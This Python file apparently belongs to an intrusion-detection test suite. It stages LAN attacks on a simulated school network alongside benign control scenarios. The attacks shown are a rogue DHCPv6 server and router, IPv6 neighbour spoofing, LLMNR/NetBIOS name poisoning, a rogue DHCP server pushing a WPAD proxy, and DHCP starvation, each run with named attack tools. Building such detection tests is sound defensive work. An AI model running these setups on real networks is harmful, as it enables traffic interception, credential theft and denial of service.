# SPDX-License-Identifier: Apache-2.0
"""What machines believe of each other on one link: names, IPv6 routers and addresses."""

import contextlib
import os
import signal
import time

from acts import join
from netns import read_file
from scenario import ATTACK, HARMLESS, Scenario

POISONER = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                        "poisoner.py")

DNSMASQ = """no-resolv
no-hosts
port=0
user=root
keep-in-foreground
log-facility=-
pid-file={folder}/six.pid
dhcp-leasefile={folder}/six.leases
interface={dev}
bind-interfaces
"""

# Addresses by DHCPv6, resolver and route by router advertisements as well.
SIX = """enable-ra
dhcp-range={network}::10,{network}::99,64,10m
dhcp-option=option6:dns-server,[{network}::1]
"""

WPAD = """no-ping
dhcp-authoritative
dhcp-range=10.20.9.10,10.20.9.50,255.255.240.0,10m
dhcp-option=option:router,10.20.1.16
dhcp-option-force=252,http://10.20.1.16/wpad.dat
"""

STOLEN = 25  # addresses, of the hundred that there are

AVAHI = """[server]
host-name={name}
use-ipv6=no
enable-dbus=no
[publish]
publish-workstation=no
"""

PRINTER = """<?xml version="1.0" standalone='no'?>
<!DOCTYPE service-group SYSTEM "avahi-service.dtd">
<service-group>
  <name>Staff room printer</name>
  <service><type>_ipp._tcp</type><port>631</port></service>
  <service><type>_printer._tcp</type><port>515</port></service>
</service-group>
"""


@contextlib.contextmanager
def with_six(school, *ends):
    """IPv6 on these (machine, interface) while it lasts; there is none otherwise."""
    def set_all(value):
        for who, dev in ends:
            school[who].run("sh", "-c", f"echo {value} >/proc/sys/net/ipv6/conf/{dev}"
                            "/disable_ipv6")
    set_all(0)
    try:
        time.sleep(2)  # addresses are tried before use
        yield
    finally:
        set_all(1)


def start_dnsmasq(ns, dev, lines):
    config = ns.write("six.conf", DNSMASQ.format(folder=ns.folder, dev=dev) + lines)
    return ns.start("dnsmasq", "-C", config)


def ask_for_six(school, who):
    """Get an IPv6 address by DHCPv6, and give it back to nobody."""
    host = school[who]
    script = host.write("six.sh", "#!/bin/sh\nexit 0\n", mode=0o755)
    host.run("timeout", 6, "dhclient", "-6", "-1", "-d", "-sf", script, "-lf",
             host.path("six.leases"), "-pf", host.path("six.pid"), "eth0", check=False)


def rogue_dhcp6(school):
    """A student's machine offers IPv6 in a school that has none."""
    rogue = school["student-06"]
    with with_six(school, ("student-06", "eth0"), ("student-04", "eth0")):
        rogue.ip("addr add 2001:db8:66::1/64 dev eth0 nodad\n")
        with start_dnsmasq(rogue, "eth0", SIX.format(network="2001:db8:66")) as server:
            server.wait_port(547, "udp")
            ask_for_six(school, "student-04")
            time.sleep(1)


def proper_dhcp6(school):
    """The segment's own router offers IPv6."""
    router = school["router"]
    with with_six(school, ("router", "students"), ("student-04", "eth0"),
                  ("student-05", "eth0")):
        router.ip("addr add 2001:db8:20::1/64 dev students nodad\n")
        with start_dnsmasq(router, "students", SIX.format(network="2001:db8:20")
                           ) as server:
            server.wait_port(547, "udp")
            for who in ("student-04", "student-05"):
                ask_for_six(school, who)
            school["student-05"].run("ping", "-6", "-c", 2, "2001:db8:20::1", check=False)
            time.sleep(1)


def rogue_router(school):
    """One advertises itself as router and resolver, to whom it may concern."""
    attacker = school["student-05"]
    with with_six(school, ("student-05", "eth0"), ("student-02", "eth0")):
        with attacker.start("atk6-fake_router26", "-A", "2001:db8:66::/64", "-D",
                            "2001:db8:66::53", "-i", 1, "eth0"):
            time.sleep(4)


def give_six(school, who, address):
    school[who].ip(f"addr add {address}/64 dev eth0 nodad\n")


def meet(school, who, address, times=1):
    """Ping a neighbour, asking for its hardware address anew each time."""
    for _ in range(times):
        school[who].run("ip", "-6", "neigh", "flush", "dev", "eth0", check=False)
        school[who].run("ping", "-6", "-c", 1, "-W", 1, address, check=False)
        time.sleep(0.5)


def nd_spoofing(school):
    """One says again and again that another's address is its own."""
    ends = [(who, "eth0") for who in ("student-01", "student-02", "student-05")]
    with with_six(school, *ends):
        give_six(school, "student-01", "2001:db8:20::11")
        give_six(school, "student-02", "2001:db8:20::12")
        meet(school, "student-02", "2001:db8:20::11")
        with school["student-05"].start("atk6-fake_advertise6", "-w", 1, "eth0",
                                        "2001:db8:20::11"):
            meet(school, "student-02", "2001:db8:20::11", 5)


def neighbours(school):
    """Three that have IPv6 addresses, new ones too, and talk to each other."""
    ends = [(who, "eth0") for who in ("student-01", "student-02", "student-03")]
    with with_six(school, *ends):
        for number, (who, _) in enumerate(ends, 0x11):
            give_six(school, who, f"2001:db8:20::{number:x}")
        for address in ("2001:db8:20::11", "2001:db8:20::13"):
            meet(school, "student-02", address, 3)
        give_six(school, "student-03", "2001:db8:20::feed:13")
        meet(school, "student-02", "2001:db8:20::feed:13")


def ask_llmnr(school, who, *names):
    for name in names:
        school[who].run("llmnr-query", "-I", "eth0", "-T", "A", "-t", 500, name,
                        check=False)


def ask_netbios(school, who, *names):
    settings = school[who].write("smb.conf", f"[global]\nnetbios name = {who}\n"
                                 f"lock directory = {school[who].folder}\n")
    for name in names:
        school[who].run("nmblookup", "-s", settings, "-B", "10.20.15.255", name,
                        check=False)


def name_poisoning(school):
    """Names that nobody has are asked for, and one answers to all of them."""
    with school["student-06"].start("/usr/bin/python3", POISONER) as poisoner:
        poisoner.wait_log("poisoning")
        time.sleep(1)
        ask_llmnr(school, "student-02", "wpad", "fileservr", "intranett", "printerr")
        ask_netbios(school, "student-03", "WPAD", "FILESERVR")
        poisoner.stop(signal.SIGKILL)


def machine_names(school):
    """Two that know their names, and others that ask for them and for some that nobody
    has."""
    with contextlib.ExitStack() as stack:
        for who in ("student-03", "student-04"):
            stack.enter_context(school[who].start("llmnrd", "-H", who)
                                ).wait_port(5355, "udp")
        for who in ("student-01", "student-02"):
            ask_llmnr(school, who, "student-03", "student-04", "fileservr", "wpad")
        ask_netbios(school, "student-02", "STUDENT-03", "WPAD")


def printer_discovery(school):
    """A printer announces itself, and a laptop looks for printers."""
    with contextlib.ExitStack() as stack:
        for who, service in (("printer-01", PRINTER), ("staff-01", None)):
            host = school[who]
            host.overlay_etc({"avahi/avahi-daemon.conf": AVAHI.format(name=who),
                              "avahi/services/printer.service": service or
                              "<service-group><name>none</name></service-group>"})
            stack.enter_context(host.start("avahi-daemon", "--no-drop-root", "--no-chroot",
                                           "--no-rlimits", hide=["/run"]))
        time.sleep(3)
        for name, kind in (("_ipp._tcp.local", "PTR"), ("_printer._tcp.local", "PTR"),
                           ("Staff room printer._ipp._tcp.local", "SRV"),
                           ("printer-01.local", "A")):
            school["staff-01"].run("dig", "+short", "+tries=1", "+time=2", "-p", 5353,
                                   "@224.0.0.251", name, kind, check=False)


def wpad_by_dhcp(school):
    """A false DHCP server names a proxy as well."""
    rogue = school["student-06"]
    with start_dnsmasq(rogue, "eth0", WPAD) as server:
        server.wait_port(67, "udp")
        join(school, "student-04")
        time.sleep(0.5)
        school.set_address("student-04")


def dhcp_starvation(school):
    """One takes address after address, each under another hardware address."""
    leases = school["router"].path("leases")
    with school["student-06"].start("dhcpstarv", "-i", "eth0") as thief:
        end = time.monotonic() + 60
        while read_file(leases).count("\n") < STOLEN and time.monotonic() < end:
            time.sleep(0.1)
        thief.stop(signal.SIGKILL)
    school.dns.stop()
    os.unlink(leases)
    school.serve_dns()


SCENARIOS = [
    Scenario("rogue-dhcp6", ATTACK,
             "A student's machine hands out IPv6 addresses, itself as router and resolver, "
             "in a school without IPv6.", rogue_dhcp6, ["dhclient"],
             ["network.rogue-dhcp6", "network.rogue-router"], told_by=7),
    Scenario("proper-dhcp6", HARMLESS,
             "The segment's own router hands out IPv6 addresses.", proper_dhcp6,
             ["dhclient"]),
    Scenario("rogue-router", ATTACK,
             "A student's machine advertises itself as IPv6 router and names a resolver.",
             rogue_router, ["atk6-fake_router26"], ["network.rogue-router"], told_by=7),
    Scenario("nd-spoofing", ATTACK,
             "A student's machine claims another's IPv6 address, which goes to and fro.",
             nd_spoofing, ["atk6-fake_advertise6"], ["network.nd-spoof"], told_by=8),
    Scenario("neighbours", HARMLESS,
             "Machines with IPv6 addresses, old and new, find each other.", neighbours),
    Scenario("name-poisoning", ATTACK,
             "A student's machine answers to every name that others ask nearby for, wpad "
             "among them.", name_poisoning, ["scapy", "llmnr-query", "nmblookup"],
             ["network.name-poisoning", "network.wpad-by-name"], told_by=5),
    Scenario("machine-names", HARMLESS,
             "Machines ask nearby for names, and those who have them answer.",
             machine_names, ["llmnrd", "llmnr-query", "nmblookup"]),
    Scenario("printer-discovery", HARMLESS,
             "A printer announces itself by mDNS and a laptop looks for it.",
             printer_discovery, ["avahi-daemon"]),
    Scenario("wpad-by-dhcp", ATTACK,
             "A false DHCP server tells where to fetch proxy settings.", wpad_by_dhcp,
             ["udhcpc"], ["network.rogue-dhcp", "network.wpad-by-dhcp"], told_by=5),
    Scenario("dhcp-starvation", ATTACK,
             "A student's machine takes one address after the other, as another client "
             "each time.", dhcp_starvation, ["dhcpstarv"], ["network.dhcp-starvation"],
             told_by=23),
]
